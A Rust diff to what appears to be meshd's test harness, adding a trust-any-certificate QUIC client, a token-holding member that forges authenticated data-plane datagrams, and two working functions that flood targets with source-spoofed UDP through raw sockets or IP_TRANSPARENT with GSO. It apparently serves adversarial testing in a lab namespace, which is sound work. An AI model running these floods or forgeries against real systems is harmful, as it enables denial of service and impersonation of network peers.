@@ -121,8 +121,8 @@ impl ServerCertVerifier for AnyCert {
     }
 }
 
-/// A quinn client endpoint speaking meshd's ALPN (must run inside a tokio runtime).
-pub fn client_endpoint() -> quinn::Endpoint {
+/// A quinn client configuration speaking meshd's ALPN, trusting any certificate.
+pub fn client_endpoint_config() -> quinn::ClientConfig {
     let provider = Arc::new(rustls::crypto::ring::default_provider());
     let mut tls = rustls::ClientConfig::builder_with_provider(provider.clone())
         .with_protocol_versions(&[&rustls::version::TLS13])
@@ -136,8 +136,13 @@ pub fn client_endpoint() -> quinn::Endpoint {
     let mut tc = quinn::TransportConfig::default();
     tc.max_idle_timeout(Some(Duration::from_secs(20).try_into().expect("idle")));
     cc.transport_config(Arc::new(tc));
+    cc
+}
+
+/// A quinn client endpoint speaking meshd's ALPN (must run inside a tokio runtime).
+pub fn client_endpoint() -> quinn::Endpoint {
     let mut ep = quinn::Endpoint::client("0.0.0.0:0".parse().expect("addr")).expect("client endpoint");
-    ep.set_default_client_config(cc);
+    ep.set_default_client_config(client_endpoint_config());
     ep
 }
 
@@ -456,4 +461,221 @@ pub async fn push_unauthenticated(
     }
     ep.close(0u32.into(), b"");
     all
+}
+
+// ---- a member holding the token, and a spoofer, against the data plane -------------------
+
+/// A member that holds the token: an authenticated main connection to a node, made from a
+/// UDP socket whose clone (`raw`) sends crafted plane datagrams from the same address and
+/// port. Must be used inside the runtime that made it.
+pub struct Member {
+    pub ep: quinn::Endpoint,
+    pub conn: quinn::Connection,
+    pub raw: UdpSocket,
+}
+
+/// Connects to `to` and authenticates with `token` as a new node of the run `run_id` (the
+/// victim then registers the connection as a peer's and makes its plane links).
+pub async fn join_as_member(to: SocketAddr, token: &Token, run_id: &str) -> Result<Member, String> {
+    let socket = UdpSocket::bind("0.0.0.0:0").map_err(|e| e.to_string())?;
+    let raw = socket.try_clone().map_err(|e| e.to_string())?;
+    let runtime = quinn::default_runtime().ok_or("no runtime")?;
+    let mut ep = quinn::Endpoint::new(quinn::EndpointConfig::default(), None, socket, runtime)
+        .map_err(|e| e.to_string())?;
+    ep.set_default_client_config(client_endpoint_config());
+    let conn = ep.connect(to, "meshd").map_err(|e| e.to_string())?.await.map_err(|e| e.to_string())?;
+    let run_hash = meshd::mesh::stable_hash(&[run_id.as_bytes()]);
+    let node = NodeId::from_u128(0x5EED_0000_0000_0000_0000_0000_0000_0001);
+    authenticate(&conn, hello(token, node, run_hash)).await?;
+    Ok(Member { ep, conn, raw })
+}
+
+/// Seals plane datagrams as a member's end of its link on `lane` (it is the QUIC client:
+/// its datagrams travel client to server), with the secret exported from its connection:
+/// datagrams the victim opens and takes as the member's own.
+pub struct Forger {
+    key: meshd_proto::plane::keys::PacketKey,
+    lane: u8,
+    id: u64,
+    pn: u64,
+}
+
+impl Forger {
+    pub fn new(conn: &quinn::Connection, lane: u8) -> Forger {
+        use meshd_proto::plane::keys::{EXPORTER_LABEL, PacketKey, exporter_context, link_id};
+        let mut secret = [0u8; 32];
+        conn.export_keying_material(&mut secret, EXPORTER_LABEL, &exporter_context(lane, true))
+            .expect("exporter");
+        Forger { key: PacketKey::from_secret(&secret), lane, id: link_id(&secret), pn: 0 }
+    }
+
+    /// Payload bytes of a full-size DATA fragment of a message of `total_len` bytes in a
+    /// datagram of `size` bytes (a multiple of 8, as the plane's own sender cuts them).
+    pub fn fragment_len(&self, seq: u64, total_len: u64, size: usize) -> usize {
+        use meshd_proto::plane::frame::DataHeader;
+        use meshd_proto::plane::packet::OVERHEAD;
+        let h = DataHeader { seq, tag: 0, total_len, offset: 0 };
+        (size - OVERHEAD - h.encoded_len()) / 8 * 8
+    }
+
+    /// The next datagram: one DATA fragment (message `seq`, ring data tag 0, `total_len`
+    /// bytes in all, `payload` at `offset`).
+    pub fn data(&mut self, seq: u64, total_len: u64, offset: u64, payload: &[u8]) -> Vec<u8> {
+        use meshd_proto::plane::frame::DataHeader;
+        use meshd_proto::plane::packet::{HEADER_LEN, Header, TAG_LEN};
+        let h = DataHeader { seq, tag: 0, total_len, offset };
+        let mut out = vec![0u8; HEADER_LEN + h.encoded_len() + payload.len() + TAG_LEN];
+        let mut pos = HEADER_LEN;
+        h.write(&mut out, &mut pos);
+        out[pos..pos + payload.len()].copy_from_slice(payload);
+        pos += payload.len();
+        Header::write(false, self.lane, self.id, self.pn, &mut out);
+        let (head, body) = out.split_at_mut(HEADER_LEN);
+        let tag = self.key.seal(self.pn, head, &mut body[..pos - HEADER_LEN]);
+        out[pos..].copy_from_slice(tag.as_ref());
+        self.pn += 1;
+        out
+    }
+}
+
+/// Sends raw IPv4/UDP datagrams with the source address `src` (not this host's: a spoofer
+/// off the path, which never sees what the victims answer) to each of `dsts` in turn, at
+/// about `rate` datagrams per second in all, until `stop` or `limit`. `fill` writes each
+/// payload (given the datagram's number) and returns its length. Returns the datagrams
+/// sent and the seconds it sent for. Run it inside a lab namespace (`in_netns`).
+pub fn spoof_flood(
+    src: std::net::SocketAddrV4,
+    dsts: &[std::net::SocketAddrV4],
+    rate: u64,
+    limit: Duration,
+    stop: &std::sync::atomic::AtomicBool,
+    mut fill: impl FnMut(u64, &mut [u8]) -> usize,
+) -> (u64, f64) {
+    const BATCH: usize = 64;
+    const MAX: usize = 1472;
+    // SAFETY: plain socket(2); the fd is closed below.
+    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
+    assert!(fd >= 0, "raw socket: {}", std::io::Error::last_os_error());
+    let mut pkts = vec![[0u8; 28 + MAX]; BATCH];
+    let mut lens = [0usize; BATCH];
+    let mut names: Vec<libc::sockaddr_in> = vec![unsafe { std::mem::zeroed() }; BATCH];
+    let start = Instant::now();
+    let mut sent = 0u64;
+    while !stop.load(std::sync::atomic::Ordering::Relaxed) && start.elapsed() < limit {
+        let due = (start.elapsed().as_secs_f64() * rate as f64) as u64;
+        if sent >= due {
+            std::thread::sleep(Duration::from_micros(200));
+            continue;
+        }
+        let n = ((due - sent) as usize).min(BATCH);
+        for i in 0..n {
+            let k = sent + i as u64;
+            let dst = dsts[(k % dsts.len() as u64) as usize];
+            let len = fill(k, &mut pkts[i][28..]).min(MAX);
+            let p = &mut pkts[i];
+            let total = (28 + len) as u16;
+            // IPv4 header (the kernel fills in the checksum and, when 0, the id).
+            p[0] = 0x45;
+            p[1] = 0;
+            p[2..4].copy_from_slice(&total.to_be_bytes());
+            p[4..8].copy_from_slice(&[0, 0, 0x40, 0]);
+            p[8] = 64;
+            p[9] = 17;
+            p[10..12].copy_from_slice(&[0, 0]);
+            p[12..16].copy_from_slice(&src.ip().octets());
+            p[16..20].copy_from_slice(&dst.ip().octets());
+            // UDP header, checksum 0 (none, allowed over IPv4).
+            p[20..22].copy_from_slice(&src.port().to_be_bytes());
+            p[22..24].copy_from_slice(&dst.port().to_be_bytes());
+            p[24..26].copy_from_slice(&((8 + len) as u16).to_be_bytes());
+            p[26..28].copy_from_slice(&[0, 0]);
+            lens[i] = 28 + len;
+            names[i].sin_family = libc::AF_INET as libc::sa_family_t;
+            names[i].sin_addr.s_addr = u32::from_ne_bytes(dst.ip().octets());
+        }
+        let mut iovs: Vec<libc::iovec> =
+            (0..n).map(|i| libc::iovec { iov_base: pkts[i].as_mut_ptr().cast(), iov_len: lens[i] }).collect();
+        let mut msgs: Vec<libc::mmsghdr> = (0..n)
+            .map(|i| {
+                // SAFETY: an all-zero msghdr is valid; the pointers set below outlive the call.
+                let mut m: libc::mmsghdr = unsafe { std::mem::zeroed() };
+                m.msg_hdr.msg_name = (&mut names[i] as *mut libc::sockaddr_in).cast();
+                m.msg_hdr.msg_namelen = std::mem::size_of::<libc::sockaddr_in>() as u32;
+                m.msg_hdr.msg_iov = &mut iovs[i];
+                m.msg_hdr.msg_iovlen = 1;
+                m
+            })
+            .collect();
+        // SAFETY: `msgs` holds `n` valid headers whose buffers live until the call returns.
+        let r = unsafe { libc::sendmmsg(fd, msgs.as_mut_ptr(), n as u32, 0) };
+        if r > 0 {
+            sent += r as u64;
+        } else {
+            // Buffers full: wait a little and pace again.
+            std::thread::sleep(Duration::from_micros(200));
+        }
+    }
+    // SAFETY: our own fd.
+    unsafe { libc::close(fd) };
+    (sent, start.elapsed().as_secs_f64())
+}
+
+/// Like [`spoof_flood`], but as trains of `segment`-byte UDP datagrams sent with UDP GSO
+/// from a socket bound (IP_TRANSPARENT) to the address `src` this host does not have: up
+/// to 64 datagrams per send call, each its own datagram on the wire, so a flood of
+/// 100,000 a second costs the sender little and every datagram reaches the victims' socket
+/// (and meshd's demultiplexer) on its own. `fill` writes each datagram's payload (all
+/// `segment` bytes). Returns the datagrams sent and the seconds it sent for.
+pub fn spoof_flood_gso(
+    src: std::net::SocketAddrV4,
+    dsts: &[std::net::SocketAddrV4],
+    segment: usize,
+    rate: u64,
+    limit: Duration,
+    stop: &std::sync::atomic::AtomicBool,
+    mut fill: impl FnMut(u64, &mut [u8]),
+) -> (u64, f64) {
+    use std::os::fd::FromRawFd;
+    const TRAIN: usize = 64;
+    // SAFETY: plain socket(2), setsockopt(2) and bind(2) on our own fd, which `from_raw_fd`
+    // then owns.
+    let sock = unsafe {
+        let fd = libc::socket(libc::AF_INET, libc::SOCK_DGRAM, 0);
+        assert!(fd >= 0, "socket: {}", std::io::Error::last_os_error());
+        let one: libc::c_int = 1;
+        let on = (&one as *const libc::c_int).cast();
+        let len = std::mem::size_of::<libc::c_int>() as libc::socklen_t;
+        assert_eq!(libc::setsockopt(fd, libc::SOL_IP, libc::IP_TRANSPARENT, on, len), 0, "IP_TRANSPARENT");
+        let seg = segment as libc::c_int;
+        let segp = (&seg as *const libc::c_int).cast();
+        assert_eq!(libc::setsockopt(fd, libc::SOL_UDP, libc::UDP_SEGMENT, segp, len), 0, "UDP_SEGMENT");
+        let mut sa: libc::sockaddr_in = std::mem::zeroed();
+        sa.sin_family = libc::AF_INET as libc::sa_family_t;
+        sa.sin_port = src.port().to_be();
+        sa.sin_addr.s_addr = u32::from_ne_bytes(src.ip().octets());
+        let rc = libc::bind(fd, (&sa as *const libc::sockaddr_in).cast(), std::mem::size_of_val(&sa) as u32);
+        assert_eq!(rc, 0, "bind {src}: {}", std::io::Error::last_os_error());
+        UdpSocket::from_raw_fd(fd)
+    };
+    let mut train = vec![0u8; TRAIN * segment];
+    let start = Instant::now();
+    let mut sent = 0u64;
+    let mut k = 0u64;
+    while !stop.load(std::sync::atomic::Ordering::Relaxed) && start.elapsed() < limit {
+        let due = (start.elapsed().as_secs_f64() * rate as f64) as u64;
+        if sent + TRAIN as u64 > due {
+            std::thread::sleep(Duration::from_micros(200));
+            continue;
+        }
+        for seg in train.chunks_mut(segment) {
+            fill(sent, seg);
+        }
+        let dst = dsts[(k % dsts.len() as u64) as usize];
+        k += 1;
+        match sock.send_to(&train, dst) {
+            Ok(_) => sent += TRAIN as u64,
+            Err(_) => std::thread::sleep(Duration::from_micros(200)),
+        }
+    }
+    (sent, start.elapsed().as_secs_f64())
 }
